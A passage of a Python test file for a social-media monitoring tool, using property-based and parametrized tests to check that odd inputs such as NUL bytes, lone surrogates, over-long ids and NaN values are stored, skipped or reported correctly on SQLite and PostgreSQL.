    err = io.TextIOWrapper(io.BytesIO(), encoding="utf-8", errors="backslashreplace", newline="\n")
    failures = analyze_stream(lines, out, err)
    out.flush()
    err.flush()
    return (
        failures,
        out.buffer.getvalue().decode().split("\n")[:-1],
        err.buffer.getvalue().decode().split("\n")[:-1],
    )


def _analyze_line(id_values: st.SearchStrategy) -> st.SearchStrategy:
    item = shaped(
        {},
        {
            "id": id_values,
            "text": wrong(JSON_TEXT),
            "is_brand": wrong(st.booleans()),
            "lang": wrong(st.one_of(st.none(), st.text(max_size=5))),
        },
        False,
    )
    dumped = st.builds(
        lambda obj, ascii_only, end: (
            json.dumps(obj, ensure_ascii=ascii_only).encode("utf-8", "surrogatepass") + end
        ),
        st.one_of(item, JUNK),
        st.booleans(),
        st.sampled_from([b"", b"\n"]),
    )
    return st.one_of(
        dumped, st.binary(max_size=30), st.sampled_from([b"", b"\n", b"  \r\n", b"\xef\xbb\xbf{}"])
    )


def _id_of(line: bytes, number: int) -> str:
    item = json.loads(line.decode("utf-8-sig" if number == 1 else "utf-8"))
    return json.dumps(item["id"], sort_keys=True)


def _is_blank(raw: bytes, number: int) -> bool:
    """Blank lines are skipped silently; a line that is not UTF-8 is never blank (reported)."""
    try:
        return not raw.decode("utf-8-sig" if number == 1 else "utf-8").strip()
    except UnicodeDecodeError:
        return False


def _check_stream(lines: list[bytes]) -> None:
    failures, out, err = _stream(lines)
    blank = {n for n, raw in enumerate(lines, start=1) if _is_blank(raw, n)}
    numbers = [int(line.split(":")[0].removeprefix("line ")) for line in err]
    assert failures == len(err) and len(set(numbers)) == len(numbers)
    assert set(numbers) <= set(range(1, len(lines) + 1)) - blank
    answered = [n for n in range(1, len(lines) + 1) if n not in blank and n not in numbers]
    assert len(out) == len(answered)
    assert [json.dumps(json.loads(o)["id"], sort_keys=True) for o in out] == [
        _id_of(lines[n - 1], n) for n in answered
    ]


@FAST
@given(lines=st.lists(_analyze_line(wrong(st.text(max_size=8))), max_size=8))
def test_analyze_stream_answers_or_reports_every_line(lines):
    """Each non-blank line gives one JSON answer or one stderr line with its number."""
    _check_stream(lines)


@pytest.mark.parametrize(
    "line",
    [
        pytest.param(b"[" * 100_000, id="deep-nesting"),
        pytest.param(b'{"id": ' + b"9" * 5000 + b', "text": "x"}', id="int-over-4300-digits"),
        pytest.param(b'{"id": "\\ud800", "text": "x"}', id="lone-surrogate-id"),
    ],
)
def test_analyze_stream_reports_lines_json_cannot_take(line):
    """Once RecursionError and ValueError from json.loads, and UnicodeEncodeError on stdout,
    escaped analyze_stream."""
    _check_stream([b'{"id": 1, "text": "hi"}', line, b'{"id": 2, "text": "hi"}'])


def test_analyze_stream_echoes_an_id_with_a_lone_surrogate_exactly():
    failures, out, err = _stream([b'{"id": "a\\ud800b", "text": "hi"}'])
    assert (failures, err) == (0, []) and json.loads(out[0])["id"] == "a\ud800b"


# ------------------------------------------------------------------------------ the store

BRAND = "brand"


class _Stores:
    """One workspace per backend for the module, emptied before each example."""

    def __init__(self, request: pytest.FixtureRequest, folder: Path) -> None:
        self.request, self.folder = request, folder
        self.open: dict[str, tuple[Workspace, Callable[[], None] | None]] = {}

    def __call__(self, backend: str) -> Workspace:
        if backend not in self.open:
            self.open[backend] = self._open(backend)
        ws = self.open[backend][0]
        ws.reset()
        with ws.engine.begin() as conn:
            for platform in ("x", "reddit", "youtube"):
                add_account(conn, platform, BRAND)
        return ws

    def _open(self, backend: str) -> tuple[Workspace, Callable[[], None] | None]:
        if backend == "sqlite":
            return open_workspace(workspace_settings(f"sqlite:///{self.folder / 'w.db'}")), None
        url, drop = _fresh_postgres_database(self.request.getfixturevalue("postgres_server_url"))
        return open_workspace(workspace_settings(url)), drop

    def close(self) -> None:
        for ws, drop in self.open.values():
            ws.engine.dispose()
            if drop:
                drop()


@pytest.fixture(scope="module")
def stores(request, tmp_path_factory):
    opened = _Stores(request, tmp_path_factory.mktemp("hostile-store"))
    yield opened
    opened.close()


_AUTHORS = st.sampled_from(["1", "2", BRAND])
_IDS = st.sampled_from(["11", "12", "13", "14", str(2**62)])


def _store_tweet(text: st.SearchStrategy) -> st.SearchStrategy:
    return st.fixed_dictionaries(
        {
            "id": _IDS,
            "text": text,
            "author_id": _AUTHORS,
            "created_at": _MOMENTS.map(lambda d: d.isoformat()),
        },
        optional={
            "conversation_id": _IDS,
            "lang": st.sampled_from(["en", "nl", "und"]),
            "referenced_tweets": st.lists(
                st.fixed_dictionaries({"type": st.just("replied_to"), "id": _IDS}), max_size=1
            ),
        },
    )


# Text any database takes, with words that open cases ("any update?") and make promises
# ("within two weeks"), so cases and promises are written too.
PLAIN_TEXT = st.one_of(
    st.text(st.characters(exclude_characters="\x00"), max_size=40),
    st.sampled_from(
        [
            "@NorthwindLabs any update on my application?",
            "We will get back to you within two weeks.",
            "Is the role remote?",
        ]
    ),
)


@st.composite
def mapped_batch(draw) -> Batch:
    """A batch as a sync builds it: mapped X, Reddit and YouTube posts plus their problems.

    Half the batches hold only plain text; the others any file text (NUL) or any JSON text
    (lone surrogates), which one of the backends refuses.
    """
    text = draw(st.sampled_from([PLAIN_TEXT, PLAIN_TEXT, FILE_TEXT, JSON_TEXT]))
    users = [
        {"id": a, "username": draw(st.text(max_size=12)), "name": draw(text)}
        for a in ("1", "2", BRAND)
    ]
    tweets = st.lists(st.one_of(_store_tweet(text), x_tweet(text=text)), min_size=1, max_size=6)
    page = {"data": draw(tweets), "includes": {"users": users}}
    found, problems = x.posts_from_page(page, "x:search")
    more, failed = reddit.posts_from_listing(draw(reddit_document(text=text)), "x:search")
    found, problems = found + more, problems + failed
    more, failed = youtube.posts_from_comment_threads(draw(yt_page(text=text)), "x:search")
    found, problems = found + more, problems + failed
    more, failed = feed.posts_from_entries(
        draw(st.lists(feed_entry(text=text), max_size=2)), "x:search"
    )
    return Batch(
        "x:search",
        found + more,
        {"page": draw(st.integers(0, 9))},
        problems + failed,
        items_read=len(found + more),
    )


def _snapshot(ws: Workspace) -> tuple[int, ...]:
    with ws.engine.connect() as conn:
        return tuple(
            conn.execute(select(func.count()).select_from(table)).scalar_one()
            for table in (posts, cases, sync_state, sync_errors)
        )


def _assert_row_is_the_post(row: Any, candidates: list[Post]) -> None:
    for column in posts.c:
        if not column.nullable and column.name != "id":
            assert getattr(row, column.name) is not None, f"NULL {column.name}"
    assert any(_row_matches(row, post) for post in candidates), (row, candidates)


def _row_matches(row: Any, post: Post) -> bool:
    fields = (
        "platform",
        "external_id",
        "url",
        "author_id",
        "author_handle",
        "author_name",
        "author_reach",
        "text",
        "subject",
        "created_at",
        "parent_external_id",
        "thread_key",
        "is_auto_reply",
        "source",
        "rating",
    )
    is_brand = BRAND in (post.author_id.lower(), post.author_handle.lower())
    facts = analyse_text(post.text, is_brand, post.lang, row.channel, post.is_auto_reply)
    facts = review_rule(post.platform, is_brand, facts, post.text, post.rating)
    if row.reason == ANSWERED_BY_BRAND:  # a brand post of the batch answers it
        facts = needing_response(facts, post.text, row.channel)
    return (
        all(getattr(row, f) == getattr(post, f) for f in fields)
        and (row.reply_to == (" ".join(post.reply_to) or None))
        and row.lang == post_language(post.text, post.lang)
        and (json.dumps(row.raw, sort_keys=True) == json.dumps(post.raw, sort_keys=True))
        and (
            (row.is_brand, row.needs_response, row.intent, row.sentiment_label)
            == (is_brand, facts.needs_response, facts.intent, facts.sentiment_label)
        )
    )


@dataclass
class Stored:
    """How ``Ingest.batch`` took a batch: refused whole (the error), or stored with the posts
    the store refused on their own skipped (each recorded as a problem)."""

    refused: BaseException | None = None
    skipped: list[Post] = field(default_factory=list)


SKIPPED = " post could not be stored ("
CUT = "text cut to its first 64 KB"
REPEATED = " read again with another text; the one read first is kept"


def _check_whole_or_nothing(ws: Workspace, batch: Batch) -> Stored:
    """Store the batch and check the outcome: refused with nothing kept; or every stored row
    equal to its post, every other post recorded as skipped, the problems and cursor kept."""
    before = _snapshot(ws)
    try:
        ws.ingest().batch(batch)
    except Exception as exc:  # any refusal is allowed here, as long as nothing was kept
        assert _snapshot(ws) == before, "a refused batch left rows behind"
        ws.ingest().batch(Batch("after", [], None))  # the workspace still takes batches
        return Stored(refused=exc)
    keys: dict[tuple[str, str], list[Post]] = {}
    for post in batch.posts:
        keys.setdefault((post.platform, post.external_id), []).append(post)
    with ws.engine.connect() as conn:
        rows = conn.execute(select(posts)).all()
        errors = conn.execute(select(sync_errors.c.item_id, sync_errors.c.reason)).all()
        cursor = conn.execute(
            select(sync_state.c.cursor).where(sync_state.c.source == batch.source)
        ).scalar_one()
    for row in rows:
        _assert_row_is_the_post(row, keys[(row.platform, row.external_id)])
    missing = [keys[key][-1] for key in keys.keys() - {(r.platform, r.external_id) for r in rows}]
    skips = sorted(item for item, reason in errors if SKIPPED in reason)
    assert skips == sorted(clean_text(p.external_id)[:255] for p in missing)
    cuts = [reason for _, reason in errors if CUT in reason]
    assert len(cuts) == sum(len(keys[(r.platform, r.external_id)][0].notes) for r in rows)
    repeats = [reason for _, reason in errors if REPEATED in reason]
    differing = sum(p.text != c[0].text for c in keys.values() for p in c[1:])  # first kept
    assert len(repeats) == differing if not missing else len(repeats) <= differing
    assert len(errors) == len(batch.problems) + len(missing) + len(cuts) + len(repeats)
    assert cursor == batch.cursor
    return Stored(skipped=missing)


@pytest.mark.parametrize("backend", ["sqlite", "postgresql"])
@STORE
@given(batch=mapped_batch())
@example(
    batch=Batch(
        "x:search",
        [Post("x", "1", "1", "sam", "a\x00b", datetime(2026, 11, 2, tzinfo=UTC), "1")],
        None,
    )
)
def test_a_mapped_batch_is_stored_whole_or_not_at_all(stores, backend, batch):
    """Every row equals the post it came from (text exactly), every NOT NULL column is set, a
    post the store refuses on its own is skipped and recorded; or the batch is refused and
    nothing of it — posts, cases, cursor, problems — is kept. (The example is built around
    the mappings: SQLite stores its NUL, PostgreSQL skips the post.)"""
    stored = _check_whole_or_nothing(stores(backend), batch)
    event(
        f"refused: {type(stored.refused).__name__}"
        if stored.refused
        else f"stored {len(batch.posts)} posts, skipped {len(stored.skipped)}"
    )


@pytest.mark.parametrize("backend", ["sqlite", "postgresql"])
@STORE
@given(batch=mapped_batch())
@example(
    batch=Batch(
        "x:search",
        x.posts_from_page({"data": [{**_TWEET, "text": "a\ud800\x00"}]}, "x:search")[0],
        None,
    )
)
def test_every_mapped_post_can_be_stored(stores, backend, batch):
    """The mapping hands ingest only what the store can hold: nothing refused, nothing skipped.
    (Once lone surrogates on both backends, and NUL, over-long ids and NaN in raw on
    PostgreSQL, passed the mappings and failed the whole batch.)"""
    assert _check_whole_or_nothing(stores(backend), batch) == Stored()


def _nul_batch() -> Batch:
    page = {
        "data": [
            {
                **_TWEET,
                "id": "1",
                "created_at": "2026-11-02T09:00:00Z",
                "text": "@NorthwindLabs any update?\x00",
            },
            {
                **_TWEET,
                "id": "2",
                "created_at": "2026-11-02T09:05:00Z",
                "text": "@NorthwindLabs is the role remote?",
            },
        ]
    }
    found, problems = x.posts_from_page(page, "x:search")
    assert problems == [] and found[0].text == "@NorthwindLabs any update?"
    return Batch("x:search", found, {"since_id": "2"}, items_read=2)


def _unmapped(text: str = "@NorthwindLabs any update?", **fields: Any) -> Post:
    """A post built around the mappings, so nothing cleaned it: what the ingest guard is for."""
    values = {
        "platform": "x",
        "external_id": "1",
        "author_id": "7",
        "author_handle": "sam",
        "text": text,
        "created_at": datetime(2026, 11, 2, 9, tzinfo=UTC),
        "thread_key": "1",
        "source": "x:search",
        **fields,
    }
    return Post(**values)


def _poisoned_batch(poison: Post) -> Batch:
    return Batch("x:search", [poison, _nul_batch().posts[1]], {"since_id": "2"}, items_read=2)


def test_sqlite_stores_a_nul_in_text_exactly(stores):
    """The store keeps what it is given: SQLite takes a NUL the mappings would have removed."""
    ws = stores("sqlite")
    batch = _poisoned_batch(_unmapped("@NorthwindLabs any update?\x00"))
    assert _check_whole_or_nothing(ws, batch) == Stored()
    with ws.engine.connect() as conn:
        texts = conn.execute(select(posts.c.text).order_by(posts.c.external_id)).scalars().all()
    assert texts == ["@NorthwindLabs any update?\x00", "@NorthwindLabs is the role remote?"]


@pytest.mark.parametrize("backend", ["sqlite", "postgresql"])
def test_empty_64kb_and_1mb_texts_are_stored_exactly_as_mapped(stores, backend):
    """An empty text and one of exactly 64 KB are stored as sent; a 1 MB one is stored as its
    first 64 KB, and the cut is recorded with the post's id."""
    big = ("@NorthwindLabs any update on my application? 面接\n" * 25_000)[:MB]
    full = ("a" * (MAX_TEXT_BYTES - 3)) + "面"
    page = {
        "data": [
            {**_TWEET, "id": "1", "created_at": _AT, "text": ""},
            {**_TWEET, "id": "2", "created_at": _AT, "text": big},
            {**_TWEET, "id": "3", "created_at": _AT, "text": full},
        ]
    }
    found, problems = x.posts_from_page(page, "x:search")
    assert problems == [] and len(found[2].text.encode()) == MAX_TEXT_BYTES
    ws = stores(backend)
    assert _check_whole_or_nothing(ws, Batch("x:search", found, None)) == Stored()
    with ws.engine.connect() as conn:
        texts = conn.execute(select(posts.c.text).order_by(posts.c.external_id)).scalars().all()
        errors = conn.execute(select(sync_errors.c.item_id, sync_errors.c.reason)).all()
    assert texts == ["", found[1].text, full] and big.startswith(found[1].text)
    assert [item for item, reason in errors if "text cut to its first 64 KB" in reason] == ["2"]


# Posts the store refuses on its own, and the backends that refuse them.
POISON = {
    "lone-surrogate-text": (lambda: _unmapped("any update?\ud800"), {"sqlite", "postgresql"}),
    "nul-text": (lambda: _unmapped("any update?\x00"), {"postgresql"}),
    "id-over-255": (lambda: _unmapped(external_id="9" * 300), {"postgresql"}),
    "nan-in-raw": (lambda: _unmapped(raw={"like_count": math.nan}), {"postgresql"}),
    "reach-over-int32": (lambda: _unmapped(author_reach=2**40), {"postgresql"}),
}


@pytest.mark.parametrize("case", sorted(POISON))
@pytest.mark.parametrize("backend", ["sqlite", "postgresql"])
def test_a_post_the_store_refuses_is_skipped_and_the_rest_of_its_batch_is_kept(
    stores, backend, case
):
    """The ingest guard: once one such post failed its whole batch — the other post and the
    cursor too — so the next sync read (and, on X, paid for) the page again, forever. Now the
    post is recorded as a problem that names the error's class, never the refused value."""
    make, refused_by = POISON[case]
    ws = stores(backend)
    stored = _check_whole_or_nothing(ws, _poisoned_batch(make()))
    assert stored.refused is None
    assert [p.external_id for p in stored.skipped] == (
        [make().external_id] if backend in refused_by else []
    )
    with ws.engine.connect() as conn:
        reasons = conn.execute(select(sync_errors.c.reason)).scalars().all()
    assert all("any update" not in reason and "9999" not in reason for reason in reasons)


def test_an_import_run_skips_a_refused_post_and_keeps_the_rest(stores):
    """``Ingest.run`` (imports, the demo) goes through the same guard as ``Ingest.batch``."""
    ws = stores("sqlite")
    totals = ws.ingest().run([_poisoned_batch(_unmapped("any update?\ud800"))])
    assert (totals.new_posts, totals.problems) == (1, 1)
    with ws.engine.connect() as conn:
        stored = conn.execute(select(posts.c.external_id)).scalars().all()
        cursor = conn.execute(select(sync_state.c.cursor)).scalar_one()
    assert stored == ["2"] and cursor == {"since_id": "2"}


def test_a_refused_cursor_still_refuses_the_whole_batch(stores):
    """No single post is to blame when the cursor itself cannot be stored: the batch is
    refused whole, as before, and nothing of it is kept."""
    batch = _nul_batch()
    stored = _check_whole_or_nothing(
        stores("postgresql"), Batch(batch.source, batch.posts, {"since_id": math.nan}, items_read=2)
    )
    assert stored.refused is not None and type(stored.refused).__name__ == "DataError"


@pytest.mark.parametrize("backend", ["sqlite", "postgresql"])
def test_a_post_with_nul_text_does_not_stop_its_batch(stores, backend):
    """Wanted on both backends, and now so: the other post is stored; the NUL post stored,
    cleaned by the mapping (once PostgreSQL refused it and the whole batch with it)."""
    ws = stores(backend)
    assert _check_whole_or_nothing(ws, _nul_batch()) == Stored()
    with ws.engine.connect() as conn:
        texts = conn.execute(select(posts.c.text).order_by(posts.c.external_id)).scalars().all()
    assert texts == ["@NorthwindLabs any update?", "@NorthwindLabs is the role remote?"]


@pytest.mark.parametrize(
    "problem",
    [
        pytest.param(Problem("x:search", "a\x00", "lacks field 'text'"), id="nul-in-item-id"),
        pytest.param(Problem("x:search", "9" * 300, "lacks field 'text'"), id="item-id-over-255"),
        pytest.param(Problem("x:search", "\ud800", "no text \x00 \udcff"), id="surrogates"),
    ],
)
@pytest.mark.parametrize("backend", ["sqlite", "postgresql"])
def test_a_recorded_problem_never_stops_its_batch(stores, backend, problem):
    """sync_errors.item_id is VARCHAR(255), PostgreSQL refuses NUL and no driver encodes a lone
    surrogate: recording a skipped item once killed the batch."""
    batch = _nul_batch()
    clean = Batch(batch.source, batch.posts[1:], batch.cursor, [problem], items_read=2)
    assert _check_whole_or_nothing(stores(backend), clean) == Stored()


def test_a_csv_platform_over_16_characters_is_refused_not_cut():
    """Once cut to 16 characters and stored; now no platform outside ``PLATFORMS`` is."""
    with _file(_CSV_HEAD + b"linkedin-messages,1,sam,2026-11-02T09:00:00Z,hi\n", ".csv") as path:
        found, problems = _imported(path, "csv")
    assert found == [] and [p.reason for p in problems] == [
        "line 2: platform 'linkedin-messages' is not one of "
        "bluesky, email, feed, hn, mastodon, reddit, reviews, x, youtube"
    ]


ODD_FIELDS = {
    "x-lang-over-8": lambda: x.posts_from_page(
        {"data": [{**_TWEET, "created_at": _AT, "lang": "en-GB-oxendict"}]}
    )[0],
    "reddit-name-over-255": lambda: reddit.posts_from_listing(
        _listing({"name": "t1_" + "a" * 300, "body": "hi", "created_utc": 1})
    )[0],
    "x-nan-in-raw": lambda: x.posts_from_page(
        {"data": [{**_TWEET, "created_at": _AT, "public_metrics": {"like_count": math.nan}}]}
    )[0],
    "x-reach-over-int32": lambda: x.posts_from_page(
        {
            "data": [{**_TWEET, "created_at": _AT}],
            "includes": {"users": [{"id": "7", "public_metrics": {"followers_count": 2**40}}]},
        }
    )[0],
    "reviews-id-over-255": lambda: _review_import(id="7" * 1000)[0],
    "reviews-longest-site-and-decimal-stars": lambda: _review_import(site="s" * 64, rating="4,75")[
        0
    ],
}


@pytest.mark.parametrize("case", sorted(ODD_FIELDS))
@pytest.mark.parametrize("backend", ["sqlite", "postgresql"])
def test_a_mapped_post_with_odd_fields_does_not_stop_its_batch(stores, backend, case):
    """PostgreSQL enforces VARCHAR lengths and 32-bit INTEGERs and refuses NaN in JSON; the
    mappings once passed all of them through."""
    odd = ODD_FIELDS[case]()
    assert len(odd) == 1
    clean = _nul_batch().posts[1]
    assert _check_whole_or_nothing(stores(backend), Batch("test", [*odd, clean], None)) == Stored()


def test_capped_ids_stay_distinct_and_stable():
    """Two ids that differ only after 255 characters stay two posts, and a re-import caps the
    same id the same way (so it is found again, not stored twice)."""
    names = ["t1_" + "a" * 300 + "x", "t1_" + "a" * 300 + "y"]
    first = reddit.posts_from_listing(
        _listing(*[{"name": n, "body": "hi", "created_utc": 1} for n in names])
    )[0]
    again = reddit.posts_from_listing(_listing({"name": names[0], "body": "hi", "created_utc": 1}))[
        0
    ]
    ids = [p.external_id for p in first]
    assert len(set(ids)) == 2 and all(len(i) == 255 for i in ids)
    assert again[0].external_id == ids[0]


@pytest.mark.parametrize("backend", ["sqlite", "postgresql"])
def test_a_database_error_never_quotes_the_values_it_refused(stores, backend):
    """The engine hides bound parameters: SQLAlchemy once put every value — post text, e-mail
    address — into the exception text that the CLI prints."""
    ws = stores(backend)
    row = {
        "platform": "email",
        "external_id": "m1@example.com",
        "author_id": "ann@example.com",
        "author_handle": "ann@example.com",
        "author_email": "ann@example.com",
        "text": "my phone number is 0612345678",
        "created_at": datetime.now(UTC),
        "thread_key": "m1",
        "is_brand": False,
        "source": "test",
        "fetched_at": datetime.now(UTC),
    }
    row = {k: v for k, v in row.items() if k in posts.c}
    with pytest.raises(IntegrityError) as raised, ws.engine.begin() as conn:
        conn.execute(insert(posts), [row, row])
    assert "0612345678" not in str(raised.value) and "parameters" in str(raised.value)
